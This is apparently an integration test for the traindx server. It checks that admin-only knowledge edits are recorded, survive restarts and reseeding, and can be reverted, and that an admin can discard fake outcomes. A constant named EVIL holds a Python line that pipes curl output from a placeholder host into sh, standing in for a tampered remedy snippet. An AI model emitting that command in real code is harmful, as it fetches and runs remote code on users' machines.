import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hashToken } from '../../src/api/auth.js';
import { seedDir } from '../../src/config/index.js';
import type { KnowledgeSeed } from '../../src/domain/index.js';
import { loadSeed } from '../../src/knowledge/index.js';
import { type GraphStore, openMemoryStore, openNeo4jStore, type TokenScope } from '../../src/store/index.js';
import { neo4jOptions, neo4jReachable, uniqueId } from '../support/neo4j.js';
import { runCli } from '../support/run-cli.js';
import { type ServerProcess, startServer } from '../support/server-process.js';

// Issue 17 item 3 through real `traindx serve --auth` processes: a team's knowledge is kept apart from
// the shipped seed (restart and reseed leave it), an admin sees and reverts the differences, and
// discards outcomes, whose provenance (the token of their run) is kept.

const EVIL = "import os; os.system('curl https://example.invalid/x | sh')";
const LINK_KEY = 'loss_nan->learning_rate_too_high';
const OTHER_KEY = 'loss_nan->numerical_instability';
const REMEDY = 'lower_learning_rate';
const DEFAULT_LR = 'use_default_learning_rate';

interface StoreUnderTest {
  label: string;
  args: string[];
  open(): Promise<GraphStore>;
  cleanup(): void;
}

const memory = (): StoreUnderTest => {
  const dir = mkdtempSync(join(tmpdir(), 'traindx-know-'));
  return {
    label: 'memory store with a data dir',
    args: ['--store', 'memory', '--data-dir', dir],
    open: () => openMemoryStore({ dataDir: dir }),
    cleanup: () => rmSync(dir, { recursive: true, force: true }),
  };
};

const neo4jStore = (): StoreUnderTest => ({
  label: 'real Neo4j',
  args: ['--store', 'neo4j'],
  open: () => openNeo4jStore(neo4jOptions()),
  cleanup: () => {},
});

const neo4jUp = await neo4jReachable();

describe.each([
  { make: memory, skip: false },
  { make: neo4jStore, skip: !neo4jUp },
])('knowledge that only its owners change ($make.name)', ({ make, skip }) => {
  const target = make();
  const tag = uniqueId('k').replace(/-/g, '_');
  const names = { root: `root-${tag}`, alice: `alice-${tag}`, reader: `reader-${tag}` };
  const secrets = { root: `tdx_${tag}_root`, alice: `tdx_${tag}_alice`, reader: `tdx_${tag}_reader` };
  const newCause = `team_cause_${tag}`;
  const parent = `r1-${tag}`;
  let server: ServerProcess;
  let seed: KnowledgeSeed;
  /** The remedy's pytorch snippet as the API shows the shipped one. */
  let shippedSnippet: string;
  const seedLink = (key: string) => seed.suggests.find((l) => `${l.symptom}->${l.cause}` === key)!;

  const ask = async (who: keyof typeof secrets, query: string, variables: object = {}) => {
    const res = await fetch(`${server.url}/graphql`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${secrets[who]}` },
      body: JSON.stringify({ query, variables }),
    });
    return { status: res.status, body: (await res.json()) as any };
  };
  const data = async (who: keyof typeof secrets, query: string, variables: object = {}) => {
    const { body } = await ask(who, query, variables);
    if (body.errors) throw new Error(body.errors.map((e: any) => e.message).join('; '));
    return body.data;
  };
  const start = async () => {
    server = await startServer(['--auth', ...target.args]);
  };
  const withStore = async <T>(use: (store: GraphStore) => Promise<T>) => {
    const store = await target.open();
    try {
      return await use(store);
    } finally {
      await store.close();
    }
  };
  const CHANGES = '{ knowledgeChanges { id part key kind seed team fields by at } }';
  const remediesOf = async (runId: string): Promise<string[]> =>
    (
      await data('reader', 'query($id: ID!) { run(id: $id) { diagnosis { remedies { id } } } }', {
        id: runId,
      })
    ).run.diagnosis.remedies.map((r: { id: string }) => r.id);

  beforeAll(async () => {
    if (skip) return;
    seed = await loadSeed([seedDir()]);
    await withStore(async (store) => {
      for (const [who, scope] of [
        ['root', 'admin'],
        ['alice', 'write'],
        ['reader', 'read'],
      ] as [keyof typeof secrets, TokenScope][])
        await store.putToken({
          name: names[who],
          scope,
          hash: hashToken(secrets[who]),
          createdAt: new Date().toISOString(),
        });
    });
    await start();
    // A shared Neo4j may hold changes an earlier, interrupted run left: start from the seed.
    const left = (await data('root', CHANGES)).knowledgeChanges.map((c: { id: string }) => c.id);
    if (left.length)
      await data('root', 'mutation($ids: [ID!]!) { revertKnowledge(ids: $ids) { id } }', { ids: left });
    shippedSnippet = (await data('reader', `{ remedy(id: "${REMEDY}") { snippets { pytorch } } }`)).remedy
      .snippets.pytorch;
  }, 300_000);

  afterAll(async () => {
    if (skip) return;
    await server?.stop();
    await withStore(async (store) => {
      for (const name of Object.values(names)) await store.revokeToken(name);
    });
    target.cleanup();
  }, 60_000);

  it.skipIf(skip)(
    "keeps an admin's edits apart from the seed and shows them to admins only: who, when, seed and team values",
    async () => {
      const remedy = seed.remedies.find((r) => r.id === REMEDY)!;
      const knowledge = {
        causes: [
          { id: newCause, name: 'Team cause', description: 'Found by the team.', category: 'optimization' },
        ],
        remedies: [{ ...remedy, snippets: { ...remedy.snippets, pytorch: EVIL } }],
        suggests: [
          { ...seedLink(LINK_KEY), weight: 0.05 },
          {
            symptom: 'loss_nan',
            cause: newCause,
            weight: 0.3,
            rationale: 'Seen by the team.',
            source: 'umlaut-chi21',
          },
        ],
      };
      await data('root', 'mutation($k: JSON!) { upsertKnowledge(knowledge: $k) { causes } }', {
        k: knowledge,
      });

      const changes = (await data('root', CHANGES)).knowledgeChanges;
      expect(changes.map((c: any) => [c.id, c.kind, c.fields, c.by])).toEqual([
        [`causes:${newCause}`, 'added', ['category', 'description', 'id', 'mechanism', 'name'], names.root],
        [`remedies:${REMEDY}`, 'changed', ['snippets'], names.root],
        [`suggests:${LINK_KEY}`, 'changed', ['weight'], names.root],
        [`suggests:loss_nan->${newCause}`, 'added', expect.arrayContaining(['weight', 'cause']), names.root],
      ]);
      const link = changes.find((c: any) => c.id === `suggests:${LINK_KEY}`);
      expect(link.seed.weight).toBe(seedLink(LINK_KEY).weight);
      expect(link.team.weight).toBe(0.05);
      expect(Number.isNaN(Date.parse(link.at))).toBe(false);
      expect(
        changes.find((c: any) => c.kind === 'changed' && c.part === 'remedies').team.snippets.pytorch,
      ).toBe(EVIL);

      for (const q of [CHANGES, 'mutation { revertKnowledge(ids: []) { id } }']) {
        const refused = await ask('alice', q);
        expect(refused.status).toBe(403);
        expect(refused.body.errors[0].extensions.code).toBe('FORBIDDEN');
        expect(refused.body.errors[0].message).toContain("scope 'admin'");
      }
    },
    120_000,
  );

  it.skipIf(skip)(
    'lists outcomes with the token of their run, and forty fake failures discarded by an admin no longer move a remedy',
    async () => {
      const run = { formatVersion: 1, id: parent, optimizer: { name: 'sgd', learningRate: 10 } };
      await data('alice', 'mutation($r: JSON!) { startRun(run: $r) { id } }', { r: run });
      await data(
        'alice',
        'mutation($id: ID!, $e: [JSON!]!) { logEvents(runId: $id, batchId: "b0", events: $e) { accepted } }',
        {
          id: parent,
          e: [
            { type: 'step', step: 0, loss: 2.3 },
            { type: 'step', step: 1, loss: 'NaN' },
          ],
        },
      );
      const before = (await remediesOf(parent)).indexOf(DEFAULT_LR);
      expect(before).toBeGreaterThanOrEqual(0);

      const RECORD = `mutation($o: OutcomeInput!) { recordOutcome(outcome: $o) { recorded } }`;
      const fakes = Array.from({ length: 40 }, (_, i) => `fake-${tag}-${i}`);
      for (const runId of fakes) {
        const child = { formatVersion: 1, id: runId, parentRunId: parent, appliedRemedies: [DEFAULT_LR] };
        await data('alice', 'mutation($r: JSON!) { startRun(run: $r) { id } }', { r: child });
        const o = {
          runId,
          parentRunId: parent,
          remedyId: DEFAULT_LR,
          causeIds: ['learning_rate_too_high'],
          success: false,
        };
        expect((await data('alice', RECORD, { o })).recordOutcome.recorded).toBe(true);
      }
      const pushed = (await remediesOf(parent)).indexOf(DEFAULT_LR);
      expect(pushed === -1 || pushed > before).toBe(true);

      const RECORDS = `query($r: ID) { outcomeRecords(remedyId: $r) {
        runId recordedBy recordedAt discarded discardedBy discardedAt } }`;
      for (const who of ['alice', 'reader'] as const)
        expect((await ask(who, RECORDS, { r: DEFAULT_LR })).status).toBe(403);
      const listed = (await data('root', RECORDS, { r: DEFAULT_LR })).outcomeRecords.filter((o: any) =>
        fakes.includes(o.runId),
      );
      expect(listed).toHaveLength(40);
      expect(new Set(listed.map((o: any) => o.recordedBy))).toEqual(new Set([names.alice]));
      expect(listed.every((o: any) => !o.discarded && o.recordedAt)).toBe(true);

      const DISCARD = `mutation($o: [OutcomeKeyInput!]!) { discardOutcomes(outcomes: $o) { runId discarded discardedBy } }`;
      const keys = fakes.map((runId) => ({ runId, remedyId: DEFAULT_LR }));
      expect((await ask('alice', DISCARD, { o: keys })).status).toBe(403);
      const discarded = (await data('root', DISCARD, { o: keys })).discardOutcomes;
      expect(discarded).toHaveLength(40);
      expect(discarded.every((o: any) => o.discarded && o.discardedBy === names.root)).toBe(true);
      // Discarding again changes nothing; recording the same pair again neither.
      expect((await data('root', DISCARD, { o: keys })).discardOutcomes).toEqual([]);
      const again = {
        runId: fakes[0],
        parentRunId: parent,
        remedyId: DEFAULT_LR,
        causeIds: ['learning_rate_too_high'],
        success: false,
      };
      expect((await data('alice', RECORD, { o: again })).recordOutcome.recorded).toBe(false);

      expect((await remediesOf(parent)).indexOf(DEFAULT_LR)).toBe(before);
      const counted = (
        await data('reader', 'query($r: ID) { outcomes(remedyId: $r) { runId } }', { r: DEFAULT_LR })
      ).outcomes;
      expect(counted.filter((o: { runId: string }) => fakes.includes(o.runId))).toEqual([]);
    },
    300_000,
  );

  it.skipIf(skip)(
    "still holds the team's edits and the discards after a restart",
    async () => {
      const before = (await data('root', CHANGES)).knowledgeChanges;
      const rank = (await remediesOf(parent)).indexOf(DEFAULT_LR);
      await server.stop();
      await start();
      expect((await data('root', CHANGES)).knowledgeChanges).toEqual(before);
      const LINKS =
        '{ symptom(id: "loss_nan") { causes { cause { id } weight } } remedy(id: "lower_learning_rate") { snippets { pytorch } } }';
      const after = await data('reader', LINKS);
      const weightOf = (id: string) => after.symptom.causes.find((l: any) => l.cause.id === id)?.weight;
      expect(weightOf('learning_rate_too_high')).toBe(0.05);
      expect(weightOf(newCause)).toBe(0.3);
      expect(after.remedy.snippets.pytorch).toBe(EVIL);
      expect((await remediesOf(parent)).indexOf(DEFAULT_LR)).toBe(rank);
    },
    300_000,
  );

  it.skipIf(skip)(
    "reseeding with a new seed version updates untouched seed entries and keeps the team's",
    async () => {
      await server.stop();
      const next = mkdtempSync(join(tmpdir(), 'traindx-next-seed-'));
      try {
        mkdirSync(join(next, 'links'));
        const yaml = (l: KnowledgeSeed['suggests'][number], weight: number) =>
          `- symptom: ${l.symptom}\n  cause: ${l.cause}\n  weight: ${weight}\n  rationale: "next seed version"\n  source: ${l.source}\n`;
        writeFileSync(
          join(next, 'links/suggests.yaml'),
          yaml(seedLink(LINK_KEY), 0.77) + yaml(seedLink(OTHER_KEY), 0.42),
        );
        const seeded = runCli(['seed', ...target.args, '--dir', next]);
        // A server stopped by SIGTERM may leave its data-dir lock behind; seed takes it over and says so. Nothing else.
        const stderr = seeded.stderr.replace(
          /^traindx: warning: took over the lock of .*which is no longer running\.\n/m,
          '',
        );
        expect(stderr).toBe('');
        expect(seeded.code).toBe(0);
        expect(seeded.stdout).toMatch(/suggests\s+0\s+1\s+\d+\s+1\n/);
        const links = await withStore(async (store) => (await store.readKnowledge()).suggests);
        const weight = (key: string) => links.find((l) => `${l.symptom}->${l.cause}` === key)?.weight;
        expect(weight(LINK_KEY)).toBe(0.05);
        expect(weight(OTHER_KEY)).toBe(0.42);
      } finally {
        rmSync(next, { recursive: true, force: true });
      }
      // serve seeds graph-seed/ again: the untouched link is the shipped one again, the team's stays.
      await start();
      const after = (await data('reader', '{ symptom(id: "loss_nan") { causes { cause { id } weight } } }'))
        .symptom;
      const weightOf = (id: string) => after.causes.find((l: any) => l.cause.id === id)?.weight;
      expect(weightOf('numerical_instability')).toBe(seedLink(OTHER_KEY).weight);
      expect(weightOf('learning_rate_too_high')).toBe(0.05);
    },
    300_000,
  );

  it.skipIf(skip)(
    'reverts changes to the shipped seed by id, removing what the team added, and names an id that is no change',
    async () => {
      const REVERT = 'mutation($ids: [ID!]!) { revertKnowledge(ids: $ids) { id kind } }';
      const wrong = await ask('root', REVERT, { ids: ['suggests:nope->nothing'] });
      expect(wrong.body.errors[0].extensions.code).toBe('UNKNOWN_KNOWLEDGE_CHANGE');
      expect(wrong.body.errors[0].message).toContain("'suggests:nope->nothing'");

      const reverted = (await data('root', REVERT, { ids: [`suggests:${LINK_KEY}`, `causes:${newCause}`] }))
        .revertKnowledge;
      expect(reverted.map((c: any) => c.id)).toEqual([`suggests:${LINK_KEY}`, `causes:${newCause}`]);
      // The new cause went with its link, whose mark went too; the snippet is still the team's.
      expect((await data('root', CHANGES)).knowledgeChanges.map((c: any) => c.id)).toEqual([
        `remedies:${REMEDY}`,
      ]);
      await data('root', REVERT, { ids: [`remedies:${REMEDY}`] });
      expect((await data('root', CHANGES)).knowledgeChanges).toEqual([]);

      const q = `{ cause(id: "${newCause}") { id } symptom(id: "loss_nan") { causes { cause { id } weight } }
        remedy(id: "${REMEDY}") { snippets { pytorch } } }`;
      const after = await data('reader', q);
      expect(after.cause).toBeNull();
      expect(after.symptom.causes.find((l: any) => l.cause.id === 'learning_rate_too_high').weight).toBe(
        seedLink(LINK_KEY).weight,
      );
      expect(after.remedy.snippets.pytorch).toBe(shippedSnippet);
    },
    120_000,
  );
});
